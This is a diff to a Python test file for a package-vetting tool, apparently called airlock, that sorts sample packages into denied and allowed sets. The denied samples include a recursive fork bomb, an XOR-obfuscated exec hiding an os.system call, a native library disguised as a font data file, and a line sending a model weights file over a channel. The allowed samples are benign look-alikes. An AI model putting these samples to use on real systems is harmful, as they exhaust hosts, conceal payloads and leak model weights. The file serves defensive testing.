@@ -13,7 +13,7 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package, xored
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
 
 # ``import os; os.system('id')`` hidden by a repeating three-byte key.
 KEY = [0x13, 0x37, 0x42]
@@ -101,13 +101,7 @@ DENIED: dict[str, dict[str, str | bytes]] = {
         "chan.sendall(open('/srv/model.safetensors', 'rb').read())\n"
     ),
     # 5. A fork bomb by recursion.
-    "fork-bomb-by-recursion": init(
-        "import os\n"
-        "def grow():\n"
-        "    os.fork()\n"
-        "    grow()\n"
-        "grow()\n"
-    ),
+    "fork-bomb-by-recursion": init("import os\ndef grow():\n    os.fork()\n    grow()\ngrow()\n"),
     "process-bomb-by-recursive-target": init(
         "import multiprocessing\n"
         "def grow():\n"
@@ -118,8 +112,7 @@ DENIED: dict[str, dict[str, str | bytes]] = {
     # 6. A native library shipped under a data file's name, loaded on import.
     "native-library-named-as-data-loaded-on-import": {
         "evpkg/__init__.py": (
-            "import ctypes, os\n"
-            "ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'fonts.dat'))\n"
+            "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'fonts.dat'))\n"
         ),
         "evpkg/fonts.dat": ELF,
     },
@@ -157,6 +150,12 @@ DENIED: dict[str, dict[str, str | bytes]] = {
         f"KEY = {bytes(KEY)!r}\n"
         "exec(bytes(map(operator.xor, BLOB, cycle(KEY))))\n"
     ),
+    "xor-by-lambda-map-with-cycled-key": init(
+        "from itertools import cycle\n"
+        f"BLOB = {BLOB!r}\n"
+        f"KEY = {KEY!r}\n"
+        "exec(bytes(map(lambda a, b: a ^ b, BLOB, cycle(KEY))).decode())\n"
+    ),
     "xor-by-starmap-over-zip-of-a-file": init(
         "import operator, os\n"
         "from itertools import cycle, starmap\n"
@@ -167,7 +166,148 @@ DENIED: dict[str, dict[str, str | bytes]] = {
 
 HELD: dict[str, dict[str, str | bytes]] = {}
 
-ALLOWED: dict[str, dict[str, str | bytes]] = {}
+ALLOWED: dict[str, dict[str, str | bytes]] = {
+    # 1-3. A backup tool tars the folder its caller names and posts it where it is told.
+    "backup-tool-tars-the-callers-folder": init(
+        "import io, tarfile, requests\n"
+        "def backup(folder, url):\n"
+        "    buf = io.BytesIO()\n"
+        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
+        "        tar.add(folder)\n"
+        "    requests.post(url, data=buf.getvalue())\n"
+    ),
+    # A model service's client packs the caller's checkpoint and posts it to its own API.
+    "model-client-packs-the-callers-checkpoint-to-its-api": init(
+        "import glob, io, os, zipfile, requests\n"
+        "API = 'https://api.modelservice.example.com/v1/models'\n"
+        "def push(path):\n"
+        "    buf = io.BytesIO()\n"
+        "    with zipfile.ZipFile(buf, 'w') as zf:\n"
+        "        for p in glob.glob(os.path.join(path, '*.safetensors')):\n"
+        "            with zf.open(os.path.basename(p), 'w') as dst:\n"
+        "                dst.write(open(p, 'rb').read())\n"
+        "    requests.post(API, data=buf.getvalue())\n"
+    ),
+    # A package unpacks its own bundled ``models`` folder into a tar on import; sends nothing.
+    "own-models-folder-tarred-on-import": init(
+        "import os, tarfile, tempfile\n"
+        "HERE = os.path.dirname(__file__)\n"
+        "with tarfile.open(os.path.join(tempfile.gettempdir(), 'm.tar'), 'w') as tar:\n"
+        "    tar.add(os.path.join(HERE, 'models'))\n"
+    ),
+    # A report written into a zip member on import, reading members back when called.
+    "report-member-written-into-a-zip": init(
+        "import zipfile\n"
+        "with zipfile.ZipFile('/tmp/report.zip', 'w') as zf:\n"
+        "    with zf.open('report.txt', 'w') as f:\n"
+        "        f.write(b'ok')\n"
+        "def read(path):\n"
+        "    with zipfile.ZipFile(path) as zf:\n"
+        "        return zf.open('model.safetensors', 'r').read()\n"
+    ),
+    # 4. A deploy tool copies what its caller names over scp; a git front-end pushes the
+    # user's repository when run; an SSH helper runs the caller's command on the caller's host.
+    "deploy-tool-scp-put-when-called": init(
+        "import paramiko\n"
+        "from scp import SCPClient\n"
+        "def deploy(host, files, remote):\n"
+        "    ssh = paramiko.SSHClient()\n"
+        "    ssh.load_system_host_keys()\n"
+        "    ssh.connect(host)\n"
+        "    with SCPClient(ssh.get_transport()) as scp:\n"
+        "        scp.put(files, remote_path=remote)\n"
+    ),
+    "git-front-end-pushes-the-users-repo": init(
+        "from dulwich import porcelain\n"
+        "def publish(path, remote):\n"
+        "    porcelain.add(path)\n"
+        "    porcelain.commit(path, message=b'update')\n"
+        "    porcelain.push(path, remote, 'main')\n"
+    ),
+    "ssh-helper-runs-the-callers-command": init(
+        "import paramiko\n"
+        "def run(host, command, data=b''):\n"
+        "    c = paramiko.SSHClient()\n"
+        "    c.load_system_host_keys()\n"
+        "    c.connect(host)\n"
+        "    stdin, stdout, _ = c.exec_command(command)\n"
+        "    stdin.write(data)\n"
+        "    return stdout.read()\n"
+    ),
+    # 5. A retry that forks again only while its budget lasts, and waits for each child.
+    "bounded-recursive-restart-waits": init(
+        "import multiprocessing\n"
+        "def work():\n"
+        "    pass\n"
+        "def start(tries=3):\n"
+        "    p = multiprocessing.Process(target=work)\n"
+        "    p.start()\n"
+        "    p.join()\n"
+        "    if p.exitcode and tries:\n"
+        "        start(tries - 1)\n"
+        "start()\n"
+    ),
+    "recursive-tree-walk-with-a-base-case": init(
+        "import os\n"
+        "def crawl(depth):\n"
+        "    if depth == 0:\n"
+        "        return\n"
+        "    pid = os.fork()\n"
+        "    if pid == 0:\n"
+        "        crawl(depth - 1)\n"
+        "        os._exit(0)\n"
+        "    os.waitpid(pid, 0)\n"
+    ),
+    # 6. A library loads its own bundled shared library on import (ctypes and cffi).
+    "bundled-shared-library-loaded-by-ctypes": {
+        "evpkg/__init__.py": (
+            "import ctypes, os\n"
+            "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libevpkg.so'))\n"
+        ),
+        "evpkg/libevpkg.so": ELF,
+    },
+    "bundled-shared-library-loaded-by-cffi": {
+        "evpkg/__init__.py": (
+            "import os\n"
+            "from cffi import FFI\n"
+            "ffi = FFI()\n"
+            "ffi.cdef('int evpkg_version(void);')\n"
+            "lib = ffi.dlopen(os.path.join(os.path.dirname(__file__), 'libevpkg.so.1'))\n"
+        ),
+        "evpkg/libevpkg.so.1": ELF,
+    },
+    # 7. An SDK sends its one token to its own API; a runner hands a child the environment;
+    # a crash reporter posts the environment to the address its caller configured.
+    "sdk-sends-its-token-to-its-api": init(
+        "import os, requests\n"
+        "def complete(prompt):\n"
+        "    token = os.environ['EXAMPLE_API_KEY']\n"
+        "    return requests.post('https://api.example.com/v1/complete',\n"
+        "                         headers={'Authorization': 'Bearer ' + token},\n"
+        "                         json={'prompt': prompt})\n"
+    ),
+    "runner-hands-its-child-the-environment": init(
+        "import os, subprocess\n"
+        "def run(cmd):\n"
+        "    env = os.environ.copy()\n"
+        "    env['PYTHONUNBUFFERED'] = '1'\n"
+        "    return subprocess.run(cmd, env=env, check=True)\n"
+    ),
+    "crash-reporter-posts-to-the-callers-dsn": init(
+        "import os, requests\n"
+        "def report(dsn, exc):\n"
+        "    requests.post(dsn, json={'error': repr(exc), 'env': dict(os.environ)})\n"
+    ),
+    # 8. Two buffers XORed by a checksum; a pad folded on import and never run.
+    "xor-checksum-of-two-buffers": init(
+        "import operator\ndef mix(a, b):\n    return bytes(map(operator.xor, a, b))\n"
+    ),
+    "xor-pad-folded-on-import": init(
+        "import operator\n"
+        "from itertools import cycle\n"
+        "PAD = bytes(map(operator.xor, b'header', cycle(b'\\x01')))\n"
+    ),
+}
 
 
 @pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
